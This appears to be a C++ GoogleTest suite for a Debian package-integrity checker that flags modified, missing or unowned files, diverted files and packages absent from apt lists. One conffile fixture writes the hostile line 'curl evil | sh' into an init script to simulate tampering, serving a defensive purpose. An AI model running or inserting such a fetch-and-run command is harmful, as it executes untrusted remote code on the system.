#include "catena/pkg/verify.hpp"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <map>

#include "../../src/pkg/apt.hpp"
#include "support/dpkg_root.hpp"
#include "support/matchers.hpp"
#include "support/run.hpp"

namespace catena::pkg {
namespace {

using test::HasError;
using test::HasErrorContaining;
using test::IsOk;

const std::string kElf = std::string(
                             "\x7f"
                             "ELF\x02\x01\x01",
                             7) +
                         std::string(57, '\0');

std::string evidence(const Finding& f, const std::string& key) {
  for (const auto& [k, v] : f.evidence) {
    if (k == key) return v;
  }
  return "<none>";
}

class VerifyTest : public ::testing::Test {
 protected:
  // Only the dpkg checks, unless a test turns the others on.
  VerifyReport verify(VerifyOptions options = {}) {
    options.location.root = root_.path();
    if (options.apt_lists_dir.empty()) options.repository = false;
    auto report = verify_packages(options);
    EXPECT_THAT(report, IsOk());
    return report ? *report : VerifyReport{};
  }
  VerifyReport verify_dpkg_only(VerifyOptions options = {}) {
    options.unowned = false;
    return verify(std::move(options));
  }
  // rule -> findings, keyed by path
  static std::map<std::string, const Finding*> by_path(const VerifyReport& report,
                                                       const std::string& rule) {
    std::map<std::string, const Finding*> out;
    for (const Finding& f : report.findings) {
      if (f.rule == rule) out[f.path] = &f;
    }
    return out;
  }

  test::FakeDpkgRoot root_;
};

TEST_F(VerifyTest, CleanRootHasNoFindings) {
  root_.install({.name = "tool",
                 .dirs = {"/usr/share/tool"},
                 .files = {{"/usr/bin/tool", kElf}, {"/usr/share/doc/tool/README", "doc"}},
                 .conffiles = {{"/etc/tool.conf", "a=1\n"}},
                 .symlinks = {{"/usr/bin/tool-alias", "tool"}}});
  const VerifyReport report = verify_dpkg_only();
  EXPECT_TRUE(report.findings.empty());
  EXPECT_EQ(report.packages, 1u);
  EXPECT_EQ(report.files, 3u);  // two files and the conffile; directories and links only exist
  EXPECT_EQ(report.bytes, kElf.size() + 3 + 4);
}

TEST_F(VerifyTest, ReportsModifiedFilesWithEvidenceAndSeverityByKind) {
  root_.install({.name = "tool",
                 .files = {{"/usr/bin/tool", kElf},
                           {"/usr/share/doc/tool/README", "doc"},
                           {"/usr/share/tool/data.txt", "data"},
                           {"/usr/lib/python3/dist-packages/tool.py", "x = 1\n"}}});
  const std::string trojan = kElf + "payload";
  root_.dir().write("usr/bin/tool", trojan, 0755);
  root_.dir().write("usr/share/doc/tool/README", "changed", 0644);
  root_.dir().write("usr/share/tool/data.txt", "changed", 0644);
  root_.dir().write("usr/lib/python3/dist-packages/tool.py", "import os\n", 0644);
  const VerifyReport report = verify_dpkg_only();
  const auto modified = by_path(report, "PKG_FILE_MODIFIED");
  ASSERT_EQ(modified.size(), 4u);
  const Finding& tool = *modified.at("/usr/bin/tool");
  EXPECT_EQ(tool.severity, Severity::High);
  EXPECT_EQ(evidence(tool, "package"), "tool");
  EXPECT_EQ(evidence(tool, "expected_md5"), test::md5_hex(kElf));
  EXPECT_EQ(evidence(tool, "actual_md5"), test::md5_hex(trojan));
  EXPECT_EQ(evidence(tool, "sha256"), test::sha256_hex(trojan));
  EXPECT_EQ(evidence(tool, "format"), "elf");
  ASSERT_TRUE(tool.sha256.has_value());
  EXPECT_EQ(modified.at("/usr/share/doc/tool/README")->severity, Severity::Low);
  EXPECT_EQ(modified.at("/usr/share/tool/data.txt")->severity, Severity::Medium);
  EXPECT_EQ(modified.at("/usr/lib/python3/dist-packages/tool.py")->severity, Severity::High);
  EXPECT_EQ(report.findings.front().severity, Severity::High);  // most severe first
}

TEST_F(VerifyTest, ReportsMissingPathsOfEveryKind) {
  root_.install({.name = "tool",
                 .dirs = {"/usr/share/tool"},
                 .files = {{"/usr/bin/tool", "t"}, {"/usr/share/doc/tool/README", "doc"}},
                 .symlinks = {{"/usr/bin/tool-alias", "tool"}}});
  ASSERT_EQ(::unlink((root_ / "usr/bin/tool").c_str()), 0);
  ASSERT_EQ(::unlink((root_ / "usr/bin/tool-alias").c_str()), 0);
  ASSERT_EQ(::unlink((root_ / "usr/share/doc/tool/README").c_str()), 0);
  ASSERT_EQ(::rmdir((root_ / "usr/share/tool").c_str()), 0);
  const VerifyReport report = verify_dpkg_only();
  const auto missing = by_path(report, "PKG_FILE_MISSING");
  ASSERT_EQ(missing.size(), 4u);
  EXPECT_EQ(missing.at("/usr/bin/tool")->severity, Severity::Medium);
  EXPECT_EQ(evidence(*missing.at("/usr/bin/tool"), "expected_md5"), test::md5_hex("t"));
  EXPECT_EQ(evidence(*missing.at("/usr/bin/tool-alias"), "expected_md5"), "<none>");
  EXPECT_EQ(missing.at("/usr/share/doc/tool/README")->severity, Severity::Low);
  EXPECT_TRUE(missing.contains("/usr/share/tool"));
}

TEST_F(VerifyTest, JudgesConffilesByWhetherTheyRun) {
  root_.install({.name = "svc",
                 .conffiles = {{"/etc/svc.conf", "a=1\n"},
                               {"/etc/init.d/svc", "#!/bin/sh\n"},
                               {"/etc/svc.d/gone.conf", "x\n"}}});
  root_.dir().write("etc/svc.conf", "a=2\n");
  root_.dir().write("etc/init.d/svc", "#!/bin/sh\ncurl evil | sh\n", 0755);
  ASSERT_EQ(::unlink((root_ / "etc/svc.d/gone.conf").c_str()), 0);
  const VerifyReport report = verify_dpkg_only();
  const auto modified = by_path(report, "PKG_CONFFILE_MODIFIED");
  ASSERT_EQ(modified.size(), 2u);
  EXPECT_EQ(modified.at("/etc/svc.conf")->severity, Severity::Info);
  EXPECT_EQ(modified.at("/etc/init.d/svc")->severity, Severity::Medium);
  EXPECT_EQ(evidence(*modified.at("/etc/svc.conf"), "conffile"), "true");
  const auto missing = by_path(report, "PKG_CONFFILE_MISSING");
  ASSERT_EQ(missing.size(), 1u);
  EXPECT_EQ(missing.begin()->second->severity, Severity::Low);
}

TEST_F(VerifyTest, AFileReplacedByALinkOrADirectoryIsModified) {
  root_.install({.name = "tool", .files = {{"/usr/bin/a", "a"}, {"/usr/bin/b", "b"}}});
  ASSERT_EQ(::unlink((root_ / "usr/bin/a").c_str()), 0);
  root_.dir().symlink("usr/bin/a", "/tmp/elsewhere");
  ASSERT_EQ(::unlink((root_ / "usr/bin/b").c_str()), 0);
  root_.dir().mkdir("usr/bin/b");
  const VerifyReport report = verify_dpkg_only();
  const auto modified = by_path(report, "PKG_FILE_MODIFIED");
  ASSERT_EQ(modified.size(), 2u);
  EXPECT_EQ(evidence(*modified.at("/usr/bin/a"), "type"), "symlink");
  EXPECT_EQ(evidence(*modified.at("/usr/bin/a"), "link_target"), "/tmp/elsewhere");
  EXPECT_EQ(modified.at("/usr/bin/a")->severity, Severity::High);
  EXPECT_EQ(evidence(*modified.at("/usr/bin/b"), "type"), "directory");
}

TEST_F(VerifyTest, ChecksADivertedFileAtItsNewPlace) {
  root_.install({.name = "orig", .files = {{"/usr/bin/tool", "original"}}});
  // The diverting package moves orig's file aside and installs its own.
  ASSERT_EQ(::rename((root_ / "usr/bin/tool").c_str(), (root_ / "usr/bin/tool.distrib").c_str()),
            0);
  root_.install({.name = "wrapper", .files = {{"/usr/bin/tool", "wrapper"}}});
  root_.divert("/usr/bin/tool", "/usr/bin/tool.distrib", "wrapper");
  EXPECT_TRUE(verify_dpkg_only().findings.empty());

  root_.dir().write("usr/bin/tool.distrib", "trojan", 0755);
  const VerifyReport report = verify_dpkg_only();
  ASSERT_EQ(report.findings.size(), 1u);
  const Finding& f = report.findings[0];
  EXPECT_EQ(f.rule, "PKG_FILE_MODIFIED");
  EXPECT_EQ(f.path, "/usr/bin/tool.distrib");
  EXPECT_EQ(evidence(f, "package"), "orig");
  EXPECT_EQ(evidence(f, "diverted_from"), "/usr/bin/tool");
  EXPECT_EQ(evidence(f, "diverted_to"), "/usr/bin/tool.distrib");
  EXPECT_EQ(evidence(f, "diverted_by"), "wrapper");
}

TEST_F(VerifyTest, ABadMd5sumsLineIsReportedAndTheRestStillChecked) {
  root_.install({.name = "tool", .files = {{"/usr/bin/a", "a"}, {"/usr/bin/b", "b"}}});
  root_.dir().write("var/lib/dpkg/info/tool.md5sums",
                    "not-a-hash  usr/bin/a\n" + test::md5_hex("b") + "  usr/bin/b\n");
  root_.dir().write("usr/bin/b", "trojan", 0755);
  const VerifyReport report = verify_dpkg_only();
  const auto damaged = by_path(report, "PKG_DATABASE_DAMAGED");
  ASSERT_EQ(damaged.size(), 1u);
  EXPECT_EQ(evidence(*damaged.begin()->second, "first_bad_line"), "1");
  EXPECT_TRUE(by_path(report, "PKG_FILE_MODIFIED").contains("/usr/bin/b"));
}

TEST_F(VerifyTest, MissingDatabaseFilesAreFindingsNotSilence) {
  root_.install({.name = "nosums", .files = {{"/usr/bin/a", "a"}}, .md5sums = false});
  root_.install({.name = "nolist", .files = {{"/usr/bin/b", "b"}}, .list = false});
  const VerifyReport report = verify_dpkg_only();
  const auto no_sums = by_path(report, "PKG_NO_MD5SUMS");
  ASSERT_EQ(no_sums.size(), 1u);
  EXPECT_EQ(evidence(*no_sums.begin()->second, "unverified_files"), "1");
  const auto damaged = by_path(report, "PKG_DATABASE_DAMAGED");
  ASSERT_EQ(damaged.size(), 1u);
  EXPECT_EQ(evidence(*damaged.begin()->second, "package"), "nolist");
}

TEST_F(VerifyTest, SelectsPackagesByNameOrQualifiedName) {
  root_.install({.name = "libz", .multi_arch = "same", .files = {{"/usr/lib/libz.so.1", "z"}}});
  root_.install({.name = "tool", .files = {{"/usr/bin/tool", "t"}}});
  root_.dir().write("usr/lib/libz.so.1", "changed");
  root_.dir().write("usr/bin/tool", "changed");
  for (const std::string name : {"libz", "libz:amd64"}) {
    const VerifyReport report = verify({.packages = {name}});
    ASSERT_EQ(report.findings.size(), 1u) << name;
    EXPECT_EQ(report.findings[0].path, "/usr/lib/libz.so.1");
    EXPECT_EQ(evidence(report.findings[0], "package"), "libz:amd64");
  }
  EXPECT_THAT(verify_packages({.location = {.root = root_.path()}, .packages = {"nope"}}),
              HasErrorContaining(ErrorCode::Usage, "nope"));
}

TEST_F(VerifyTest, SymlinksResolveInsideTheRoot) {
  // An image whose /bin is an absolute symlink: on its own machine /bin/tool is /usr/bin/tool.
  // (Installed before the link exists: writing through it would write to this host.)
  root_.install({.name = "tool", .files = {{"/bin/tool", "tool"}}});
  root_.dir().mkdir("usr/bin");
  ASSERT_EQ(::rename((root_ / "bin/tool").c_str(), (root_ / "usr/bin/tool").c_str()), 0);
  ASSERT_EQ(::rmdir((root_ / "bin").c_str()), 0);
  root_.dir().symlink("bin", "/usr/bin");
  EXPECT_TRUE(verify_dpkg_only().findings.empty());
  root_.dir().write("usr/bin/tool", "trojan", 0755);
  const VerifyReport report = verify_dpkg_only();
  ASSERT_EQ(report.findings.size(), 1u);
  EXPECT_EQ(report.findings[0].rule, "PKG_FILE_MODIFIED");
  EXPECT_EQ(report.findings[0].path, "/bin/tool");
}

TEST_F(VerifyTest, FindsUnownedExecutablesInSystemDirectories) {
  root_.install({.name = "tool", .files = {{"/usr/bin/tool", kElf}}});
  root_.dir().write("usr/bin/planted", "#!/bin/sh\n", 0755);
  root_.dir().write("usr/lib/x86_64-linux-gnu/libevil.so", kElf, 0644);  // ELF, no x bit
  root_.dir().write("usr/lib/x86_64-linux-gnu/cache.bin", "data", 0644);
  root_.dir().write("usr/local/bin/mine", "#!/bin/sh\n", 0755);
  root_.dir().symlink("usr/bin/alias", "tool");
  const VerifyReport report = verify();
  const auto unowned = by_path(report, "UNOWNED_EXECUTABLE");
  ASSERT_EQ(unowned.size(), 2u);
  EXPECT_EQ(evidence(*unowned.at("/usr/bin/planted"), "mode"), "0755");
  EXPECT_EQ(evidence(*unowned.at("/usr/lib/x86_64-linux-gnu/libevil.so"), "format"), "elf");
  ASSERT_TRUE(unowned.at("/usr/bin/planted")->sha256.has_value());
  EXPECT_EQ(to_hex(*unowned.at("/usr/bin/planted")->sha256), test::sha256_hex("#!/bin/sh\n"));
  const VerifyReport strict_report = verify({.strict = true});
  const auto strict = by_path(strict_report, "UNOWNED_EXECUTABLE");
  EXPECT_EQ(strict.size(), 3u);
  EXPECT_TRUE(strict.contains("/usr/local/bin/mine"));
}

TEST_F(VerifyTest, JudgesPackagesAgainstTheAptLists) {
  root_.install({.name = "tool", .version = "1.0", .files = {{"/usr/bin/tool", "t"}}});
  root_.install({.name = "old", .version = "1.0", .files = {{"/usr/bin/old", "o"}}});
  root_.install({.name = "handmade", .version = "3.1", .files = {{"/usr/bin/handmade", "h"}}});
  root_.install({.name = "doc", .architecture = "all", .version = "2", .files = {}});
  test::TempDir lists;
  lists.write("deb.example.org_dists_x_main_binary-amd64_Packages",
              "Package: tool\nVersion: 1.0\nArchitecture: amd64\n\n"
              "Package: old\nVersion: 2.0\nArchitecture: amd64\n\n");
  // apt may keep lists compressed; this one is gzip.
  lists.write("plain", "Package: doc\nVersion: 2\nArchitecture: all\n\n");
  ASSERT_EQ(test::run_command({"gzip", "-n", lists / "plain"}).exit_code, 0);
  ASSERT_EQ(::rename((lists / "plain.gz").c_str(),
                     (lists / "deb.example.org_dists_x_main_binary-all_Packages.gz").c_str()),
            0);
  const VerifyReport report =
      verify({.unowned = false, .repository = true, .apt_lists_dir = lists.path()});
  std::map<std::string, const Finding*> foreign;
  for (const Finding& f : report.findings) {
    if (f.rule == "PKG_NOT_FROM_REPOSITORY") foreign[evidence(f, "package")] = &f;
    EXPECT_NE(f.rule, "PKG_REPOSITORY_UNKNOWN");
  }
  ASSERT_EQ(foreign.size(), 2u);
  EXPECT_EQ(foreign.at("handmade")->severity, Severity::Medium);
  EXPECT_EQ(foreign.at("old")->severity, Severity::Low);
  EXPECT_EQ(evidence(*foreign.at("old"), "offered_versions"), "2.0");

  test::TempDir no_lists;
  const VerifyReport unknown =
      verify({.unowned = false, .repository = true, .apt_lists_dir = no_lists.path()});
  ASSERT_EQ(unknown.findings.size(), 1u);
  EXPECT_EQ(unknown.findings[0].rule, "PKG_REPOSITORY_UNKNOWN");
}

TEST_F(VerifyTest, AnIndexIsParsedAsItIsDecompressedWhateverItsSize) {
  root_.install({.name = "tool", .version = "1.0", .files = {{"/usr/bin/tool", "t"}}});
  root_.install({.name = "last", .version = "7", .files = {{"/usr/bin/last", "l"}}});
  root_.install({.name = "gone", .version = "1", .files = {{"/usr/bin/gone", "g"}}});
  // Many chunks of decompressed text: paragraphs straddle every chunk boundary.
  std::string index;
  for (int n = 0; n < 20000; ++n) {
    index += "Package: filler" + std::to_string(n) + "\nVersion: 1\nArchitecture: amd64\n";
    index += "Description: a line long enough to move the boundaries around " +
             std::string(static_cast<size_t>(n % 97), 'x') + "\n\n";
    if (n == 10000) index += "Package: tool\nVersion: 1.0\nArchitecture: amd64\n\n";
  }
  index += "Package: last\nVersion: 7\nArchitecture: amd64\n";  // no blank line at the end
  ASSERT_GT(index.size(), 1u << 20);
  test::TempDir lists;
  lists.write("plain", index);
  ASSERT_EQ(test::run_command({"gzip", "-n", lists / "plain"}).exit_code, 0);
  ASSERT_EQ(::rename((lists / "plain.gz").c_str(),
                     (lists / "deb.example.org_dists_x_main_binary-amd64_Packages.gz").c_str()),
            0);
  VerifyReport report =
      verify({.unowned = false, .repository = true, .apt_lists_dir = lists.path()});
  std::vector<std::string> foreign;
  for (const Finding& f : report.findings) {
    ASSERT_NE(f.rule, "PKG_REPOSITORY_UNKNOWN");
    if (f.rule == "PKG_NOT_FROM_REPOSITORY") foreign.push_back(evidence(f, "package"));
  }
  EXPECT_EQ(foreign, std::vector<std::string>{"gone"});

  // A "paragraph" that never ends is not buffered without bound: the index is unreadable.
  test::TempDir hostile;
  std::string endless;
  while (endless.size() <= pkg::kMaxParagraphBytes) endless += "Package: x\n";
  hostile.write("deb.example.org_dists_x_main_binary-amd64_Packages", endless);
  report = verify({.unowned = false, .repository = true, .apt_lists_dir = hostile.path()});
  ASSERT_EQ(report.findings.size(), 1u);
  EXPECT_EQ(report.findings[0].rule, "PKG_REPOSITORY_UNKNOWN");
  EXPECT_NE(evidence(report.findings[0], "unreadable").find("paragraph larger than the cap"),
            std::string::npos);
}

TEST_F(VerifyTest, HardLinkedFilesAreHashedOnceAndJudgedEach) {
  const std::string big(3 << 20, 'x');  // large enough to be hashed in the last pass
  root_.install({.name = "drivers", .files = {{"/usr/lib/dri/a_dri.so", big}}});
  root_.install({.name = "more-drivers", .files = {{"/usr/lib/dri/b_dri.so", big}}});
  ASSERT_EQ(::unlink((root_ / "usr/lib/dri/b_dri.so").c_str()), 0);
  ASSERT_EQ(
      ::link((root_ / "usr/lib/dri/a_dri.so").c_str(), (root_ / "usr/lib/dri/b_dri.so").c_str()),
      0);
  VerifyReport report = verify_dpkg_only();
  EXPECT_TRUE(report.findings.empty());
  EXPECT_EQ(report.files, 2u);
  EXPECT_EQ(report.bytes, big.size());  // one read for two names

  root_.dir().write("usr/lib/dri/a_dri.so", big + "trojan", 0644);  // both names change
  report = verify_dpkg_only();
  const auto modified = by_path(report, "PKG_FILE_MODIFIED");
  ASSERT_EQ(modified.size(), 2u);
  for (const auto& [path, f] : modified) {
    EXPECT_EQ(evidence(*f, "sha256"), test::sha256_hex(big + "trojan")) << path;
    EXPECT_EQ(f->severity, Severity::High) << path;  // a .so in a library directory
  }
}

TEST(ModifiedFileSeverity, FollowsWhatTheFileIs) {
  EXPECT_EQ(modified_file_severity("/usr/bin/ls", "elf", 0755), Severity::High);
  EXPECT_EQ(modified_file_severity("/usr/share/x/run", "script", 0644), Severity::High);
  EXPECT_EQ(modified_file_severity("/usr/share/x/data", "other", 0755), Severity::High);
  EXPECT_EQ(modified_file_severity("/usr/lib/python3/x.py", "other", 0644), Severity::High);
  EXPECT_EQ(modified_file_severity("/usr/lib/x86_64-linux-gnu/libz.so.1.2", "other", 0644),
            Severity::High);
  EXPECT_EQ(modified_file_severity("/usr/share/doc/x/changelog.gz", "gzip", 0644), Severity::Low);
  EXPECT_EQ(modified_file_severity("/usr/share/man/man1/ls.1.gz", "gzip", 0644), Severity::Low);
  EXPECT_EQ(modified_file_severity("/usr/share/x/data.txt", "other", 0644), Severity::Medium);
  EXPECT_EQ(modified_file_severity("/usr/lib/x/data.txt", "other", 0644), Severity::Medium);
}

}  // namespace
}  // namespace catena::pkg
